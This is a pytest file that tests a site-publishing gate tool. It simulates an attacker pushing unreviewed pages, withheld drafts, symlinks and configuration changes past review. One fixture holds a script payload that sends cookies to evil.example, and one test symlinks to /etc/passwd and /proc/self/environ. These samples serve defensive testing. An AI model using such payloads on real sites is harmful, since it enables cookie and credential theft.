"""Attacks on what reaches site/: files the gates never read, the build configuration, configured strings.

Each runs on a copy of the demo site repository (generated through the real signing path) and goes through
`gates check` and the gated build (`gates build`) as CI runs them.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

MALLORY = ["-c", "user.name=马洛", "-c", "user.email=mallory@example.com"]


@pytest.fixture
def site(demo: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "repo"
    shutil.copytree(demo, copy, symlinks=True, ignore=shutil.ignore_patterns("site", "gates-manifest.json"))
    return copy


def gates(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "GATES_CACHE_KEY_FILE": str(root.parent / "cache-mac.key"), "NO_MKDOCS_2_WARNING": "1"}
    return subprocess.run([sys.executable, "-m", "gates", *args], cwd=root, capture_output=True, text=True,
                          check=False, env=env, timeout=300)


def commit(root: Path, message: str) -> None:
    subprocess.run(["git", "add", "-A"], cwd=root, check=True)
    subprocess.run(["git", *MALLORY, "commit", "-q", "--no-gpg-sign", "-m", message], cwd=root, check=True)


def everything_in(site_dir: Path) -> str:
    if not site_dir.exists():
        return ""
    return "\n".join(p.read_bytes().decode("utf-8", "replace") for p in site_dir.rglob("*") if p.is_file())


def refused(root: Path, *names: str) -> str:
    """Run CI's two steps; both must refuse, naming each of `names`; return what they said."""
    check = gates(root, "check")
    build = gates(root, "build")
    said = check.stdout + check.stderr + build.stdout + build.stderr
    assert check.returncode == 1 and build.returncode == 1, said
    for name in names:
        assert name in check.stdout, check.stdout
    return said


DRAFT_WITHHELD = ("---\ntitle: 内部方案\ncolumn: policies\nunit: qzfb\ndisclosure: 不予公开\n"
                  "disclosure_reason: 属于内部事务信息，依据条例第十六条不予公开\nreview_due: 2027-01-01\nstatus: draft\n---\n"
                  "WITHHELD-SECRET-TEXT 内部方案全文。\n")


@pytest.mark.parametrize(("name", "text"), [
    ("content/news/通知.markdown", "---\ntitle: 未检查的页面\n---\nUNCHECKED-MARKDOWN-TEXT\n"),
    ("content/news/notice.mkd", "---\ntitle: 未检查的页面\n---\nUNCHECKED-MARKDOWN-TEXT\n"),
    ("content/policies/SECRET.MD", DRAFT_WITHHELD),
    ("content/news/evil.html", "<script>document.location='https://evil.example/'+document.cookie</script>"),
    ("content/news/2026/index.md", "---\ntitle: 子栏目\n---\nUNCHECKED-MARKDOWN-TEXT\n"),
])
def test_files_the_gates_never_read_do_not_reach_the_site(site: Path, name: str, text: str) -> None:
    (site / name).parent.mkdir(parents=True, exist_ok=True)
    (site / name).write_text(text, encoding="utf-8")
    commit(site, "添加文件")
    refused(site, name)
    assert "UNCHECKED-MARKDOWN-TEXT" not in everything_in(site / "site")
    assert "WITHHELD-SECRET-TEXT" not in everything_in(site / "site")


def test_text_added_to_the_home_page_body_is_refused(site: Path) -> None:
    home = site / "content" / "index.md"
    home.write_text(home.read_text(encoding="utf-8") + "\nUNAPPROVED-HOME-TEXT 未经审签的公告。\n", encoding="utf-8")
    commit(site, "首页加一段话")
    said = refused(site, "content/index.md")
    assert "FM010" in said and "UNAPPROVED-HOME-TEXT" not in everything_in(site / "site")


@pytest.mark.parametrize("target", ["/etc/passwd", "/proc/self/environ"])
def test_a_symlink_out_of_the_repository_is_never_followed(site: Path, target: str) -> None:
    os.symlink(target, site / "content" / "news" / "data.txt")
    page = next((site / "content" / "news").glob("2026-03-02-*.md"))
    page.write_text(page.read_text(encoding="utf-8") + "\n[数据](data.txt)\n", encoding="utf-8")
    commit(site, "附件")
    refused(site, "content/news/data.txt")
    built = everything_in(site / "site")
    assert "root:" not in built and "PATH=" not in built


def test_an_attachment_of_a_withheld_page_never_reaches_the_site(site: Path) -> None:
    (site / "content" / "policies" / "files").mkdir()
    (site / "content" / "policies" / "files" / "fangan.pdf").write_bytes(b"%PDF-1.4 WITHHELD-ATTACHMENT-BYTES")
    (site / "content" / "policies" / "neibu.md").write_text(
        DRAFT_WITHHELD + "\n详见[方案全文][fangan]。\n\n[fangan]: files/fangan.pdf\n", encoding="utf-8")
    commit(site, "内部方案草稿")
    assert gates(site, "check").returncode == 0  # a draft with its attachment is fine to keep in git
    build = gates(site, "build")
    assert build.returncode == 0, build.stderr
    assert not list((site / "site").rglob("fangan.pdf"))
    assert "WITHHELD-ATTACHMENT-BYTES" not in everything_in(site / "site")


def test_a_build_without_the_gates_plugin_is_refused(site: Path) -> None:
    config = site / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    start = text.index("  - gates:")
    end = text.index("\n\n", start)
    config.write_text(text[:start] + text[end + 1:], encoding="utf-8")
    commit(site, "构建配置调整")
    said = refused(site, "mkdocs.yml")
    assert "SIGN004" in said and "没有启用 gates 插件" in said


def test_a_preview_configuration_is_not_a_publication(site: Path) -> None:
    config = site / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("  - gates:\n", "  - gates:\n      verify: false\n"),
                      encoding="utf-8")
    commit(site, "关闭核验")
    said = refused(site, "mkdocs.yml")
    assert "verify: false" in said


def test_an_unsigned_published_page_makes_the_gated_build_refuse(site: Path) -> None:
    page = next((site / "content" / "news").glob("2026-03-02-*.md"))
    page.write_text(page.read_text(encoding="utf-8").replace("传达学习", "UNAPPROVED-EDIT 传达学习"), encoding="utf-8")
    commit(site, "改一句")
    said = refused(site, page.relative_to(site).as_posix())
    assert "SIGN001" in said and "UNAPPROVED-EDIT" not in everything_in(site / "site")


def test_every_output_file_is_accounted_for_by_the_manifest(site: Path) -> None:
    assert gates(site, "build").returncode == 0
    manifest = json.loads((site / "gates-manifest.json").read_text(encoding="utf-8"))
    on_disk = {p.relative_to(site / "site").as_posix() for p in (site / "site").rglob("*") if p.is_file()}
    assert set(manifest["files"]) == on_disk and manifest["verified"] is True
    # Something that bypasses the plugin and drops a file into site/ is caught by the acceptance step.
    from gates.actions.build import BuildRefused, _accept

    (site / "site" / "planted.html").write_text("<script>x</script>", encoding="utf-8")
    with pytest.raises(BuildRefused, match=r"planted\.html"):
        _accept(site, site / "site", site / "gates-manifest.json", 0)


def test_a_build_on_a_review_branch_still_requires_complete_chains(site: Path) -> None:
    subprocess.run(["git", "checkout", "-q", "-b", "review/x"], cwd=site, check=True)
    page = next((site / "content" / "news").glob("2026-03-02-*.md"))
    page.write_text(page.read_text(encoding="utf-8").replace("传达学习", "UNAPPROVED-EDIT 传达学习"), encoding="utf-8")
    commit(site, "改一句")
    check = gates(site, "check")
    assert check.returncode == 0 and "SIGN001" in check.stdout  # a warning on a review branch
    build = gates(site, "build")
    assert build.returncode == 1 and "SIGN001" in build.stderr
    assert "UNAPPROVED-EDIT" not in everything_in(site / "site")


def test_an_unapproved_takedown_still_builds_and_shows_none_of_the_text(site: Path) -> None:
    """SPEC section 7: a withdrawn page never makes the build refuse (a leak must come down at once); CI's
    check still refuses the missing approvals, so the takedown cannot be merged without its decision."""
    page = next((site / "content" / "news").glob("2026-03-02-*.md"))
    text = page.read_text(encoding="utf-8").replace("status: published", "status: withdrawn\nwithdrawal:\n  reason: 内容有误，已撤回")
    page.write_text(text, encoding="utf-8")
    commit(site, "紧急撤下")
    check = gates(site, "check")
    assert check.returncode == 1 and "SIGN001" in check.stdout
    build = gates(site, "build")
    assert build.returncode == 0, build.stderr
    assert "传达学习全国两会精神" not in everything_in(site / "site")
